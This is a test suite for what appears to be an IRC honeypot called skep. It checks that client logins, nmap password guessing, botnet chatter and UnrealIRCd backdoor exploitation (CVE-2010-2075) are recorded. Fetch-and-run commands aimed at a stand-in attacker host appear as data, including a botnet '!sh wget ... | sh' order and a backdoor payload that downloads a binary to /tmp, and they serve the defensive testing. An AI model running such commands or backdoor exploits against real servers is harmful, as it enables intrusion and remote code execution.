import assert from 'node:assert/strict'
import { spawn, spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep, until } from '../skep.ts'

type Login = Event & { skep: { login: { password?: string; method: string } } }
type Exploit = Event & { vulnerability: { id: string } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'irc' && event.event.action === action
const commandLine = (line: string) => (event: Event) =>
  ofAction('command')(event) && (event as { process?: { command_line?: string } }).process?.command_line === line

const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import irc.client']).status === 0,
)
const home = fs.mkdtempSync(path.join(os.tmpdir(), 'irc-clients-'))
const file = (name: string, text: string) => {
  const at = path.join(home, name)
  fs.writeFileSync(at, text)
  return at
}
after(() => fs.rmSync(home, { recursive: true }))

/**
 * nmap's scripts pass over the first piece that they read, which on a busy machine may hold all that they wait for: then
 * they are run again.
 */
async function nmapFinds(args: string[], ...wanted: RegExp[]): Promise<void> {
  let out = ''
  for (let left = 5; left > 0 && !wanted.every(words => words.test(out)); left--)
    out = (await runClient('nmap', ['-Pn', '-n', ...args], { seconds: 150 })).out
  for (const words of wanted) assert.match(out, words)
}

describe('IRC behind a password', () => {
  const locked = (product: string) =>
    startSkep({
      config: `services: { irc: { product: ${product}, password: needed, access: { rules: ['*:letmein'], otherwise: refuse } } }\n`,
    })
  test('sic says it and talks', { skip: missing('sic') }, async () => {
    const skep = await locked('ngIRCd')
    try {
      const talk = `{ printf ':j #main\\n:m #main hello\\n'; sleep 5; } | sic -h 127.0.0.1 -p ${skep.port('irc')} -n bot -k letmein`
      const { out, err } = await runClient('sh', ['-c', talk])
      assert.match(out, /Welcome to the Internet Relay Network bot!/, err)
      await skep.eventually(commandLine('PRIVMSG #main :hello'))
      const [login] = (await skep.eventually(ofAction('login'))) as Login[]
      assert.equal(login!.skep.login.password, 'letmein')
    } finally {
      await skep.stop()
    }
  })
  test('nmap guesses it, and each guess is recorded', { skip: missing('nmap') }, async () => {
    const skep = await locked('UnrealIRCd')
    try {
      const words = file('words', 'alpha\nbeta\nletmein\n')
      const args = ['-p', String(skep.port('irc')), '--script', '+irc-brute', '127.0.0.1']
      await nmapFinds([...args, '--script-args', `passdb=${words}`], /letmein - Valid credentials/)
      const logins = (await skep.eventually(ofAction('login'), 3)) as Login[]
      const passwords = new Set(logins.map(event => event.skep.login.password))
      for (const word of ['alpha', 'beta', 'letmein']) assert.ok(passwords.has(word), word)
    } finally {
      await skep.stop()
    }
  })
})

describe('IRC open to everybody', () => {
  let skep: Skep
  let port: string
  before(async () => {
    skep = await startSkep({ config: 'persona: { os: debian-12 }\n' })
    port = String(skep.port('irc'))
  })
  after(() => skep?.stop())

  test('a bot and its herder, by Python’s library, meet', {
    skip: python ? false : 'python3-irc not installed',
  }, async () => {
    const program = `
import irc.client, time
reactor = irc.client.IRC()
heard = []
herder = reactor.server().connect('127.0.0.1', ${port}, 'herder')
bot = reactor.server().connect('127.0.0.1', ${port}, '[DEU|LNX]481516')
bot.add_global_handler('pubmsg', lambda c, e: heard.append(e.arguments[0]))
def until(done):
    end = time.time() + 20
    while not done():
        assert time.time() < end
        reactor.process_once(0.1)
until(lambda: herder.is_connected() and bot.is_connected())
names = []
herder.add_global_handler('namreply', lambda c, e: names.append(e.arguments[2]))
herder.join('#b0ts', 's3cret'); until(lambda: names)
bot.join('#b0ts', 's3cret'); until(lambda: len(names) > 1)
herder.privmsg('#b0ts', '!sh wget http://198.51.100.9/i.sh -O- | sh')
until(lambda: heard)
assert heard[0].startswith('!sh wget'), heard
print('fine')
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, 'fine\n', err)
    await skep.eventually(commandLine('JOIN #b0ts s3cret'), 2)
    const [download] = await skep.eventually(ofAction('file-download'))
    assert.match(JSON.stringify(download), /http:\/\/198\.51\.100\.9\/i\.sh/)
  })
  test('ii sees who is there', { skip: missing('ii') }, async () => {
    const at = path.join(home, 'ii')
    const ii = spawn('ii', ['-s', '127.0.0.1', '-p', port, '-n', 'visitor', '-i', at], { stdio: 'ignore' })
    const said = path.join(at, '127.0.0.1', 'out')
    const out = () => (fs.existsSync(said) ? fs.readFileSync(said, 'utf8') : '')
    try {
      await until(() => /This is a private irc server/.test(out()), 'ii hears no message of the day')
    } finally {
      ii.kill()
    }
    assert.match(out(), /Welcome to the Internet Relay Network visitor!/)
  })
  test('over TLS as well', { skip: missing('ncat') }, async () => {
    const args = ['--ssl', '127.0.0.1', String(skep.port('irc', { tls: true }))]
    const { out } = await runClient('ncat', args, { input: 'NICK a\r\nUSER a 0 * :a\r\nLIST\r\nQUIT\r\n', seconds: 10 })
    assert.match(out, / 323 a :End of LIST/)
  })
  test('nmap names it, and finds no back door', { skip: missing('nmap') }, async () => {
    const args = ['-Pn', '-n', '-sV', '-p', port, '--script', '+irc-unrealircd-backdoor', '127.0.0.1']
    const { out } = await runClient('nmap', args, { seconds: 200 })
    assert.match(out, /open +irc +ngircd/i)
    // What it says of a real one.
    assert.match(out, /irc-unrealircd-backdoor: Server closed connection/)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})

test('nmap finds the back door where there is one, and it is recorded', { skip: missing('nmap') }, async () => {
  const skep = await startSkep({ config: 'services: { irc: { product: UnrealIRCd } }\n' })
  try {
    const port = String(skep.port('irc'))
    const scripts = '+irc-unrealircd-backdoor,+irc-info,+irc-botnet-channels'
    const args = ['-sV', '-p', port, '--script', scripts, '127.0.0.1']
    const command = 'irc-unrealircd-backdoor.command=wget http://198.51.100.9/x86 -O /tmp/.x'
    await nmapFinds(
      [...args, '--script-args', command],
      /Looks like trojaned version of unrealircd/,
      /open +irc +UnrealIRCd/,
      /irc-info:[\s\S]*users: \d+/,
    )
    const [exploit] = (await skep.eventually(ofAction('exploit'))) as Exploit[]
    assert.equal(exploit!.vulnerability.id, 'CVE-2010-2075')
    await skep.eventually(ofAction('file-download'))
  } finally {
    await skep.stop()
  }
})
